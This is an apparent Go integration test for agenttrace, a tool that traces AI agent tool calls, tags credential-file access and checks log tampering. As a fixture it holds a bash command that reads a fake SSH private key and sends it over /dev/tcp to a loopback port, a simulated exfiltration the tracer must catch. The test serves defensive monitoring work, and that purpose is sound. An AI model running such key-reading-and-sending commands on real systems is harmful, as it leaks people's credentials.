package integration

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/agenttrace/agenttrace/internal/record"
	"github.com/agenttrace/agenttrace/tools"
)

var updateGolden = flag.Bool("update", false, "rewrite testdata/show.golden from agenttrace show's output")

// written is what a log line says about attribution and tags.
type written struct {
	ToolCall        string
	ChildToolCall   string
	ToolCallCommand bool
	Tags            []string
}

func writtenOf(t *testing.T, line []byte) written {
	t.Helper()
	var r struct {
		Proc struct {
			ToolCall string `json:"tool_call"`
		} `json:"proc"`
		Fork struct {
			ChildToolCall string `json:"child_tool_call"`
		} `json:"fork"`
		Tags []string `json:"tags"`
	}
	if err := json.Unmarshal(line, &r); err != nil {
		t.Fatalf("%v: %s", err, line)
	}
	w := written{ToolCall: r.Proc.ToolCall, ChildToolCall: r.Fork.ChildToolCall}
	for _, tag := range r.Tags {
		if tag == record.TagToolCallCommand {
			w.ToolCallCommand = true
		} else {
			w.Tags = append(w.Tags, tag)
		}
	}
	return w
}

// scripted is one run of testdata/agent.sh under agenttrace.
type scripted struct {
	*session
	dir, script string
	port        int
	// forktree's RESULT lines.
	treeParent, treeChild, treeGrandchild int
}

// runScriptedAgent sets up the agent's files (a project .env, a fake SSH
// key, the files the daemon-like tool opens), listens on a loopback port and
// runs testdata/agent.sh under agenttrace.
func runScriptedAgent(t *testing.T) *scripted {
	t.Helper()
	forktree := requireC(t, forkBin)
	dir := testDir(t)
	files := map[string]string{
		"project/.env":         "OPENAI_API_KEY=sk-test\n",
		"home/.ssh/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY-----\nnot a real key\n-----END OPENSSH PRIVATE KEY-----\n",
		"child.txt":            "c\n",
		"grandchild.txt":       "g\n",
	}
	for name, content := range files {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	script, err := os.ReadFile("testdata/agent.sh")
	if err != nil {
		t.Fatal(err)
	}
	scriptPath := filepath.Join(dir, "agent.sh")
	if err := os.WriteFile(scriptPath, script, 0o755); err != nil {
		t.Fatal(err)
	}
	l := listen(t, "tcp4", "127.0.0.1:0")
	go func() {
		// Take the tool's connection and its line, so nothing waits on us.
		if c, err := l.Accept(); err == nil {
			c.SetDeadline(time.Now().Add(time.Minute))
			c.Read(make([]byte, 512))
			c.Close()
		}
	}()
	port := l.Addr().(*net.TCPAddr).Port
	// A fixed environment: the golden tree lists every file the shells open.
	env := []string{"PATH=/usr/sbin:/usr/bin:/sbin:/bin", "HOME=" + dir, "SHELL=/bin/sh", "LC_ALL=C"}
	s := agent(t, dir, runOpts{setsid: true, env: env}, "/bin/sh", scriptPath, dir, strconv.Itoa(port), forktree)
	if s.exit != 0 {
		t.Fatalf("agenttrace exited %d\nstdout:\n%s\nstderr:\n%s", s.exit, s.stdout, s.stderr)
	}
	sa := &scripted{session: s, dir: dir, script: scriptPath, port: port}
	for _, r := range s.results {
		switch r["role"] {
		case "parent":
			sa.treeParent = num(t, r, "pid")
		case "child":
			sa.treeChild = num(t, r, "pid")
		case "grandchild":
			sa.treeGrandchild = num(t, r, "pid")
			if num(t, r, "ppid") == sa.treeChild {
				t.Fatalf("the grandchild was not reparented: %v", r)
			}
		}
	}
	if sa.treeParent == 0 || sa.treeChild == 0 || sa.treeGrandchild == 0 {
		t.Fatalf("forktree did not report its three processes: %v", s.results)
	}
	return sa
}

// TestShowScriptedAgent runs a scripted agent with three tool calls (a
// shell pipeline, a daemon-like double fork, a tool that reads an SSH key
// and connects to a loopback port) and checks the tool_call of every
// record, the credential_access tags, that the attribution recomputed from
// the log alone equals what the tracer wrote, and agenttrace show: its text
// tree (golden), --json, the filters, --html rendered by headless Chromium,
// and a tampered copy of the log.
func TestShowScriptedAgent(t *testing.T) {
	requireRoot(t)
	t.Parallel()
	sa := runScriptedAgent(t)

	agentPid := strconv.Itoa(sa.start().Pid) + "-"
	var root string // the agent's process: <pid>-<start>
	parent := map[string]string{}
	forkOf := map[string]*rec{} // child process -> the fork record that created it
	for _, r := range sa.recs {
		if r.Proc.ExecID == "" {
			continue
		}
		p, _ := execIDParts(t, r.Proc.ExecID)
		if strings.HasPrefix(r.Proc.ParentExecID, agentPid) {
			root = p
		}
		if r.Type == "fork" {
			child, _ := execIDParts(t, r.Fork.ChildExecID)
			parentProcess, _ := execIDParts(t, r.Proc.ExecID)
			parent[child], forkOf[child] = parentProcess, r
		}
	}
	// Expected tool call of a process: the fork record's child_exec_id of
	// its ancestor that the agent created.
	expected := func(p string) string {
		if p == root {
			return ""
		}
		for parent[p] != root {
			if parent[p] == "" {
				t.Fatalf("process %s is not a descendant of the agent %s", p, root)
			}
			p = parent[p]
		}
		return forkOf[p].Fork.ChildExecID
	}
	var calls []string // in the order the agent started them
	for _, r := range sa.find("fork", nil) {
		p, _ := execIDParts(t, r.Proc.ExecID)
		if p == root {
			calls = append(calls, r.Fork.ChildExecID)
		}
	}
	if len(calls) != 3 {
		t.Fatalf("the agent forked %d times, want 3 (one per tool call): %q", len(calls), calls)
	}
	pipeline, daemon, keyTool := calls[0], calls[1], calls[2]

	t.Run("tool_call", func(t *testing.T) {
		members := map[string]map[string]bool{}
		for _, r := range sa.recs {
			if r.Proc.ExecID == "" {
				continue
			}
			p, _ := execIDParts(t, r.Proc.ExecID)
			w := writtenOf(t, r.line)
			if want := expected(p); w.ToolCall != want {
				t.Errorf("tool_call %q, want %q:\n%s", w.ToolCall, want, r.line)
			}
			if w.ToolCall != "" {
				if members[w.ToolCall] == nil {
					members[w.ToolCall] = map[string]bool{}
				}
				members[w.ToolCall][p] = true
			}
			wantChild := ""
			if r.Type == "fork" && p == root {
				wantChild = r.Fork.ChildExecID
			}
			if w.ChildToolCall != wantChild {
				t.Errorf("child_tool_call %q, want %q:\n%s", w.ChildToolCall, wantChild, r.line)
			}
		}
		// The pipeline: sh, its printf subshell, tr and wc.
		var pipelineExecs []string
		for _, r := range sa.find("exec", nil) {
			if writtenOf(t, r.line).ToolCall == pipeline {
				pipelineExecs = append(pipelineExecs, r.Exec.Argv[0])
			}
		}
		slices.Sort(pipelineExecs)
		if len(members[pipeline]) != 4 || !slices.Equal(pipelineExecs, []string{"sh", "tr", "wc"}) {
			t.Errorf("pipeline tool call: %d processes running %q, want 4 running sh, tr, wc (and a subshell)", len(members[pipeline]), pipelineExecs)
		}
		// The daemon: forktree, its child and its reparented grandchild.
		var daemonPids []int
		for p := range members[daemon] {
			pid, _ := strconv.Atoi(p[:strings.IndexByte(p, '-')])
			daemonPids = append(daemonPids, pid)
		}
		slices.Sort(daemonPids)
		if want := []int{sa.treeParent, sa.treeChild, sa.treeGrandchild}; !slices.Equal(daemonPids, want) {
			t.Errorf("daemon tool call has pids %v, want %v", daemonPids, want)
		}
		late := sa.one(t, "open", openOf(filepath.Join(sa.dir, "grandchild.txt")))
		if late.Proc.Pid != sa.treeGrandchild || late.Proc.Ppid == sa.treeChild || writtenOf(t, late.line).ToolCall != daemon {
			t.Errorf("the reparented grandchild's open is not in the daemon tool call %s:\n%s", daemon, late.line)
		}
		if len(members[keyTool]) != 1 || len(members) != 3 {
			t.Errorf("tool calls and their processes: %v", members)
		}
		// Each tool call's command: the first exec of its top-most process.
		commands := map[string][]string{}
		for _, r := range sa.find("exec", nil) {
			if w := writtenOf(t, r.line); w.ToolCallCommand {
				commands[w.ToolCall] = r.Exec.Argv
			}
		}
		want := map[string][]string{
			pipeline: {"sh", "-c", `printf "alpha\nbeta\n" | tr a-z A-Z | wc -l > "$1/pipeline.out"`, "sh", sa.dir},
			daemon:   {forkBin, filepath.Join(sa.dir, "child.txt"), filepath.Join(sa.dir, "grandchild.txt")},
			keyTool:  {"bash", "-c", `read -r key < "$1/home/.ssh/id_ed25519"; exec 3<>"/dev/tcp/127.0.0.1/$2"; echo "$key" >&3`, "bash", sa.dir, strconv.Itoa(sa.port)},
		}
		if fmt.Sprint(commands) != fmt.Sprint(want) {
			t.Errorf("tool_call_command execs:\n got %q\nwant %q", commands, want)
		}
		connect := sa.one(t, "connect", nil)
		if connect.Connect.Port != sa.port || connect.Connect.Ret != 0 || writtenOf(t, connect.line).ToolCall != keyTool {
			t.Errorf("the key tool's connect:\n%s", connect.line)
		}
	})

	t.Run("tags", func(t *testing.T) {
		var tagged []string
		for _, r := range sa.recs {
			w := writtenOf(t, r.line)
			if w.Tags == nil {
				continue
			}
			if r.Type != "open" || !slices.Equal(w.Tags, []string{record.TagCredentialAccess}) {
				t.Errorf("tags %q on:\n%s", w.Tags, r.line)
			}
			tagged = append(tagged, fmt.Sprintf("%s %s", r.Open.Path, w.ToolCall))
		}
		want := []string{
			filepath.Join(sa.dir, "project/.env") + " ",                   // the agent itself: no tool call
			filepath.Join(sa.dir, "home/.ssh/id_ed25519") + " " + keyTool, // bash's read
		}
		if !slices.Equal(tagged, want) {
			t.Errorf("tagged opens:\n got %q\nwant %q", tagged, want)
		}
		var start struct {
			Start struct {
				SensitivePaths []string `json:"sensitive_paths"`
			} `json:"start"`
		}
		json.Unmarshal(sa.recs[1].line, &start)
		if !slices.Equal(start.Start.SensitivePaths, record.ParsePatterns(record.DefaultSensitivePaths)) {
			t.Errorf("start.sensitive_paths = %q, want the default list", start.Start.SensitivePaths)
		}
	})

	t.Run("recompute", func(t *testing.T) {
		var a record.Attributor
		attributed := 0
		for i, line := range sa.lines {
			rec, err := record.Decode(line)
			if err != nil {
				t.Fatal(err)
			}
			got, err := a.Next(rec)
			if err != nil {
				t.Fatalf("line %d: %v", i+1, err)
			}
			w := writtenOf(t, line)
			if want := (record.Attribution{ToolCall: w.ToolCall, ChildToolCall: w.ChildToolCall, ToolCallCommand: w.ToolCallCommand}); got != want {
				t.Errorf("line %d: recomputed %+v, the tracer wrote %+v\n%s", i+1, got, want, line)
			}
			if got.ToolCall != "" {
				attributed++
			}
		}
		if attributed == 0 {
			t.Error("no record was attributed")
		}
	})

	show := func(t *testing.T, args ...string) (string, int) {
		t.Helper()
		cmd := exec.Command(agentBin, append([]string{"show", "--pubkey", sa.logPath + ".pub"}, args...)...)
		var stderr bytes.Buffer
		cmd.Stderr = &stderr
		out, err := cmd.Output()
		var exitErr *exec.ExitError
		switch {
		case err == nil:
			return string(out), 0
		case errors.As(err, &exitErr):
			return string(out), exitErr.ExitCode()
		}
		t.Fatalf("agenttrace show %q: %v\n%s", args, err, stderr.String())
		return "", 0
	}

	t.Run("text", func(t *testing.T) {
		out, code := show(t, sa.logPath)
		if code != 0 {
			t.Fatalf("show exited %d:\n%s", code, out)
		}
		if want := sa.logPath + ": INTACT: "; !strings.HasPrefix(out, want) {
			t.Errorf("first line %q does not start with %q", strings.SplitN(out, "\n", 2)[0], want)
		}
		if strings.Contains(out, "\x1b[") {
			t.Error("colour written to a pipe")
		}
		got := maskShow(out, sa)
		golden := filepath.Join("testdata", "show.golden")
		if *updateGolden {
			if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
				t.Fatal(err)
			}
			return
		}
		want, err := os.ReadFile(golden)
		if err != nil {
			t.Fatalf("%v (run go test -run TestShowScriptedAgent -update to create it)", err)
		}
		if got != string(want) {
			t.Errorf("show output differs from %s (masked):\n%s\n--- want:\n%s", golden, got, want)
		}
	})

	t.Run("json", func(t *testing.T) {
		out, code := show(t, "--json", sa.logPath)
		if code != 0 {
			t.Fatalf("show --json exited %d", code)
		}
		var rep struct {
			Logs []struct {
				Verify struct {
					Intact     bool `json:"intact"`
					KeyChecked bool `json:"key_checked"`
				} `json:"verify"`
				Summary struct {
					ToolCalls        int `json:"tool_calls"`
					Processes        int `json:"processes"`
					Connections      int `json:"connections"`
					CredentialAccess int `json:"credential_access"`
				} `json:"summary"`
				Sessions []struct {
					Agent []struct {
						Pid         int `json:"pid"`
						Credentials []struct {
							Path string `json:"path"`
						} `json:"credential_access"`
					} `json:"agent"`
					ToolCalls []struct {
						ID         string   `json:"id"`
						Argv       []string `json:"argv"`
						Credential bool     `json:"credential_access"`
						Exit       struct {
							Code *int `json:"code"`
						} `json:"exit"`
					} `json:"tool_calls"`
				} `json:"sessions"`
			} `json:"logs"`
		}
		if err := json.Unmarshal([]byte(out), &rep); err != nil {
			t.Fatalf("show --json: %v\n%s", err, out)
		}
		if len(rep.Logs) != 1 || len(rep.Logs[0].Sessions) != 1 {
			t.Fatalf("show --json: want 1 log with 1 session:\n%s", out)
		}
		l := rep.Logs[0]
		if !l.Verify.Intact || !l.Verify.KeyChecked || l.Summary.ToolCalls != 3 || l.Summary.Processes != 9 || l.Summary.Connections != 1 || l.Summary.CredentialAccess != 2 {
			t.Errorf("show --json verify %+v summary %+v", l.Verify, l.Summary)
		}
		s := l.Sessions[0]
		if len(s.Agent) != 1 || len(s.Agent[0].Credentials) != 1 || s.Agent[0].Credentials[0].Path != filepath.Join(sa.dir, "project/.env") {
			t.Errorf("show --json agent: %+v", s.Agent)
		}
		var ids []string
		for _, c := range s.ToolCalls {
			ids = append(ids, c.ID)
			if c.Exit.Code == nil || *c.Exit.Code != 0 || c.Credential != (c.ID == keyTool) {
				t.Errorf("show --json tool call %+v", c)
			}
		}
		if !slices.Equal(ids, calls) || s.ToolCalls[1].Argv[0] != forkBin {
			t.Errorf("show --json tool calls %q, want %q", ids, calls)
		}
	})

	t.Run("filters", func(t *testing.T) {
		for _, tc := range []struct {
			args       []string
			want, not  []string
			toolCalls  int
			processLns int
		}{
			{[]string{"--tool-call", keyTool}, []string{"tool call " + keyTool, "127.0.0.1:" + strconv.Itoa(sa.port)}, []string{"tr a-z", "tool call " + pipeline, "  agent"}, 1, 1},
			{[]string{"--tag", "credential_access"}, []string{"project/.env", "id_ed25519"}, []string{"ld.so.cache", "tool call " + pipeline}, 1, 2},
			{[]string{"--pid", strconv.Itoa(sa.treeGrandchild)}, []string{"grandchild.txt"}, []string{"/child.txt\n"}, 1, 3},
			{[]string{"--type", "connect"}, []string{"connect  127.0.0.1:"}, []string{"read   "}, 1, 1},
			{[]string{"--since", time.Now().Add(time.Hour).UTC().Format(time.RFC3339)}, []string{"0 sessions"}, []string{"session "}, 0, 0},
		} {
			out, code := show(t, append(tc.args, sa.logPath)...)
			if code != 0 {
				t.Errorf("show %q exited %d", tc.args, code)
			}
			for _, w := range tc.want {
				if !strings.Contains(out, w) {
					t.Errorf("show %q does not contain %q:\n%s", tc.args, w, out)
				}
			}
			for _, n := range tc.not {
				if strings.Contains(out, n) {
					t.Errorf("show %q contains %q:\n%s", tc.args, n, out)
				}
			}
			if got := strings.Count(out, "\n  tool call "); got != tc.toolCalls {
				t.Errorf("show %q: %d tool calls, want %d:\n%s", tc.args, got, tc.toolCalls, out)
			}
			if got := regexp.MustCompile(`(?m)^ +pid \d+ `).FindAllString(out, -1); len(got) != tc.processLns {
				t.Errorf("show %q: %d processes, want %d:\n%s", tc.args, len(got), tc.processLns, out)
			}
		}
	})

	t.Run("html", func(t *testing.T) {
		browser := requireChromium(t)
		page := filepath.Join(sa.dir, "report.html")
		if _, code := show(t, "--html", page, sa.logPath); code != 0 {
			t.Fatalf("show --html exited %d", code)
		}
		html, err := os.ReadFile(page)
		if err != nil {
			t.Fatal(err)
		}
		if regexp.MustCompile(`(?i)(src|href)="(https?:)?//|@import|url\(`).Match(html) {
			t.Error("the HTML report refers to something outside itself")
		}
		dom := chromium(t, browser, sa.dir, "--dump-dom", "file://"+page)
		for _, want := range []string{
			"INTACT", `id="tc-` + pipeline + `"`, `id="tc-` + daemon + `"`, `id="tc-` + keyTool + `"`,
			"tr a-z A-Z", forkBin + " " + filepath.Join(sa.dir, "child.txt"), "/dev/tcp/127.0.0.1/$2",
			`<span class="tag">credential_access</span>`, filepath.Join(sa.dir, "home/.ssh/id_ed25519"),
			"127.0.0.1:" + strconv.Itoa(sa.port), `class="timeline"`,
		} {
			if !strings.Contains(dom, want) {
				t.Errorf("the DOM Chromium built from the report has no %q", want)
			}
		}
		shot := filepath.Join(sa.dir, "report.png")
		chromium(t, browser, sa.dir, "--screenshot="+shot, "--window-size=1280,900", "file://"+page)
		png, err := os.ReadFile(shot)
		if err != nil || !bytes.HasPrefix(png, []byte("\x89PNG\r\n\x1a\n")) || len(png) < 10_000 {
			t.Errorf("screenshot %s: %d bytes, %v", shot, len(png), err)
		}
	})

	t.Run("tampered", func(t *testing.T) {
		dir := testDir(t)
		data, err := os.ReadFile(sa.logPath)
		if err != nil {
			t.Fatal(err)
		}
		// Change one digit of the ktime of the first fork record.
		fork := bytes.Index(data, []byte(`"type":"fork"`))
		k := bytes.LastIndex(data[:max(fork, 0)], []byte(`"ktime":`))
		if fork < 0 || k < 0 {
			t.Fatal("no fork record to tamper with")
		}
		i := k + len(`"ktime":`) + 3
		data[i] = '0' + (data[i]-'0'+1)%10
		tampered := filepath.Join(dir, "x.jsonl")
		if err := os.WriteFile(tampered, data, 0o644); err != nil {
			t.Fatal(err)
		}
		cmd := exec.Command(agentBin, "show", "--pubkey", sa.logPath+".pub", tampered)
		out, err := cmd.Output()
		var exitErr *exec.ExitError
		if !errors.As(err, &exitErr) || exitErr.ExitCode() != 1 {
			t.Errorf("show of a tampered log: %v, want exit status 1", err)
		}
		first, _, _ := strings.Cut(string(out), "\n")
		if want := tampered + ": DAMAGED: modified at " + tampered + " line "; !strings.HasPrefix(first, want) {
			t.Errorf("first line of show on a tampered log:\n%s\nwant it to start with %q", first, want)
		}
	})
}

// maskShow replaces what differs between runs in show's output: the test
// directory, pids (P1, P2… in order of appearance), exec ids (T1…), times,
// durations, the host, the session's cgroup and the port.
func maskShow(out string, sa *scripted) string {
	out = strings.ReplaceAll(out, sa.dir, "<dir>")
	out = strings.ReplaceAll(out, filepath.Dir(forkBin), "<bin>")
	number := func(re, prefix string) {
		names := map[string]string{}
		out = regexp.MustCompile(re).ReplaceAllStringFunc(out, func(m string) string {
			if _, ok := names[m]; !ok {
				names[m] = fmt.Sprintf("%s%d", prefix, len(names)+1)
			}
			return names[m]
		})
	}
	number(`\b\d+-\d+-\d+\b`, "T")
	out = regexp.MustCompile(`\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d+Z`).ReplaceAllString(out, "<time>")
	out = regexp.MustCompile(`/agenttrace/run-\d+-\d+`).ReplaceAllString(out, "<cgroup>")
	out = regexp.MustCompile(`host \S+ ·`).ReplaceAllString(out, "host <host> ·")
	out = regexp.MustCompile(`\b`+strconv.Itoa(sa.port)+`\b`).ReplaceAllString(out, "<port>")
	out = regexp.MustCompile(`\d+\.\d{3}s\b`).ReplaceAllString(out, "<t>")
	names := map[string]string{}
	out = regexp.MustCompile(`pid \d+`).ReplaceAllStringFunc(out, func(m string) string {
		if _, ok := names[m]; !ok {
			names[m] = fmt.Sprintf("pid P%d", len(names)+1)
		}
		return names[m]
	})
	return out
}

// TestShowSensitivePathsFlag: --sensitive-paths adds patterns after the
// defaults and can exclude a default one; the start record lists them all.
func TestShowSensitivePathsFlag(t *testing.T) {
	requireRoot(t)
	t.Parallel()
	dir := testDir(t)
	for _, name := range []string{"vault/token.txt", "app/.env", "app/notes.txt"} {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte("x\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	list := filepath.Join(dir, "sensitive.txt")
	if err := os.WriteFile(list, []byte("# ours\nvault/*.txt\n!app/.env\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	s := agent(t, dir, runOpts{flags: []string{"--sensitive-paths", list}}, "/bin/sh", "-c", `cd "$1" && cat vault/token.txt app/.env app/notes.txt /etc/hostname > /dev/null`, "sh", dir)
	if s.exit != 0 {
		t.Fatalf("agenttrace exited %d:\n%s", s.exit, s.stderr)
	}
	var tagged []string
	for _, r := range s.find("open", nil) {
		if w := writtenOf(t, r.line); len(w.Tags) > 0 {
			tagged = append(tagged, r.Open.Path)
		}
	}
	if want := []string{"vault/token.txt"}; !slices.Equal(tagged, want) {
		t.Errorf("tagged opens %q, want %q", tagged, want)
	}
	var start struct {
		Start struct {
			SensitivePaths []string `json:"sensitive_paths"`
		} `json:"start"`
	}
	json.Unmarshal(s.recs[1].line, &start)
	want := append(record.ParsePatterns(record.DefaultSensitivePaths), "vault/*.txt", "!app/.env")
	if !slices.Equal(start.Start.SensitivePaths, want) {
		t.Errorf("start.sensitive_paths = %q, want %q", start.Start.SensitivePaths, want)
	}
	// A bad pattern stops the run before anything starts.
	if err := os.WriteFile(list, []byte("a/[b\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	bad := agent(t, dir, runOpts{flags: []string{"--sensitive-paths", list}, log: filepath.Join(dir, "bad.jsonl"), noLog: true}, "/bin/true")
	if bad.exit != 2 || !strings.Contains(bad.stderr, `--sensitive-paths: bad path pattern "a/[b"`) {
		t.Errorf("bad pattern: exit %d, stderr %q", bad.exit, bad.stderr)
	}
	if _, err := os.Stat(filepath.Join(dir, "bad.jsonl")); !os.IsNotExist(err) {
		t.Errorf("a run with a bad pattern left a log: %v", err)
	}
}

// requireChromium returns the chromium binary, failing at once with the
// command that installs it when it is not installed.
func requireChromium(t *testing.T) string {
	t.Helper()
	tools.Require(t, "chromium")
	path, err := exec.LookPath("chromium")
	if err != nil {
		t.Fatal(err)
	}
	return path
}

// chromium runs headless Chromium with args and returns its stdout. It
// fetches nothing: no network, no first-run, no component updates.
func chromium(t *testing.T, browser, dir string, args ...string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	profile, err := os.MkdirTemp(dir, "chromium-")
	if err != nil {
		t.Fatal(err)
	}
	base := []string{"--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
		"--disable-component-update", "--disable-sync", "--user-data-dir=" + profile}
	cmd := exec.CommandContext(ctx, browser, append(base, args...)...)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("chromium %q: %v\n%s", args, err, stderr.String())
	}
	return string(out)
}
